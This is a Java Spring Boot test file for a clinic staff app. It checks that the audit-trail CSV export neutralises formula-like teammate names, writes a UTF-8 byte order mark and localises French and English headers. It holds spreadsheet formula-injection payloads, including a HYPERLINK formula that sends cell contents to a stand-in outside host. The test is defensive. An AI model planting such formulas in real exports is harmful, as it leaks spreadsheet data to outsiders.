package app.staffroom.history;

import static org.assertj.core.api.Assertions.assertThat;

import app.staffroom.team.TeammateService;
import app.staffroom.team.TeammateStatus;
import app.staffroom.testing.Fixtures;
import app.staffroom.testing.Fixtures.Clinic;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.r2dbc.core.DatabaseClient;

/** The audit trail's CSV export, with names that a spreadsheet would take for formulas. */
@SpringBootTest
class AuditExportTest {

    static final String HYPERLINK = "=HYPERLINK(\"https://x.invalid/?\"&A1,\"Open\")";
    private static final Duration LIMIT = Duration.ofSeconds(10);

    @Autowired
    AuditSearch audit;

    @Autowired
    TeammateService teammates;

    @Autowired
    Fixtures fixtures;

    @Autowired
    DatabaseClient db;

    @Test
    void names_that_look_like_formulas_are_exported_as_text_in_a_utf8_file_with_a_byte_order_mark() throws IOException {
        Clinic clinic = fixtures.newClinic();
        UUID admin = fixtures.addTeammate(clinic, clinic.adminRole(), TeammateStatus.ACTIVE);
        UUID leaving = fixtures.addTeammate(clinic, clinic.frontDeskRole(), TeammateStatus.ACTIVE);
        rename(admin, HYPERLINK);
        rename(leaving, "@SUM(A1:A9)");
        teammates.deactivate(fixtures.actor(admin), leaving, 0, "-1 left").block(LIMIT);

        byte[] file = audit.exportCsv(fixtures.actor(admin), AuditFilter.everything(), java.util.Locale.ENGLISH).block(LIMIT);

        assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        CSVRecord deactivation = rows(file).stream()
                .filter(row -> row.get("action").equals("TEAMMATE_DEACTIVATED")).findFirst().orElseThrow();
        assertThat(deactivation.get("actor")).startsWith("'" + HYPERLINK + " Person");
        assertThat(deactivation.get("target")).startsWith("'@SUM(A1:A9) Person");
        assertThat(deactivation.get("after")).startsWith("{").contains("-1 left");
    }

    @Test
    void a_french_downloader_gets_a_french_header_and_wording_with_iso_times_and_values_as_recorded() throws IOException {
        Clinic clinic = fixtures.newClinic();
        UUID admin = fixtures.addTeammate(clinic, clinic.adminRole(), TeammateStatus.ACTIVE);
        UUID leaving = fixtures.addTeammate(clinic, clinic.frontDeskRole(), TeammateStatus.ACTIVE);
        rename(leaving, "=1+1");
        teammates.deactivate(fixtures.actor(admin), leaving, 0, "Moved away").block(LIMIT);

        byte[] french = audit.exportCsv(fixtures.actor(admin), AuditFilter.everything(), java.util.Locale.FRENCH).block(LIMIT);
        byte[] english = audit.exportCsv(fixtures.actor(admin), AuditFilter.everything(), java.util.Locale.ENGLISH).block(LIMIT);

        assertThat(header(french)).containsExactly("heure", "auteur", "action", "événement", "type de cible", "cible",
                "modifications", "avant", "après");
        assertThat(header(english)).containsExactly("time", "actor", "action", "what happened", "target type", "target",
                "changes", "before", "after");
        CSVRecord deactivation = rows(french).stream()
                .filter(row -> row.get("action").equals("TEAMMATE_DEACTIVATED")).findFirst().orElseThrow();
        assertThat(deactivation.get("événement")).isEqualTo("Membre de l’équipe désactivé");
        assertThat(deactivation.get("modifications")).contains("Statut : Actif → Inactif").contains("Motif : Moved away");
        assertThat(deactivation.get("heure")).matches("\\d{4}-\\d{2}-\\d{2}T\\d{2}:\\d{2}:\\d{2}(Z|[+-]\\d{2}:\\d{2})");
        assertThat(deactivation.get("cible")).startsWith("'=1+1 Person");
        assertThat(deactivation.get("type de cible")).isEqualTo("Membre de l’équipe");
        assertThat(deactivation.get("après")).contains("\"status\": \"INACTIVE\"");
        CSVRecord inEnglish = rows(english).stream()
                .filter(row -> row.get("action").equals("TEAMMATE_DEACTIVATED")).findFirst().orElseThrow();
        assertThat(inEnglish.get("what happened")).isEqualTo("Teammate deactivated");
        assertThat(inEnglish.get("target type")).isEqualTo("Teammate");
        assertThat(inEnglish.get("changes")).contains("Status: Active → Inactive");
    }

    private void rename(UUID teammate, String firstName) {
        db.sql("update account set first_name = :name where id = (select account_id from teammate where id = :t)")
                .bind("name", firstName).bind("t", teammate).then().block(LIMIT);
    }

    private static List<String> header(byte[] file) throws IOException {
        String text = new String(file, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
            return parser.getRecords().getFirst().toList();
        }
    }

    private static List<CSVRecord> rows(byte[] file) throws IOException {
        String text = new String(file, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(text),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            return parser.getRecords();
        }
    }
}
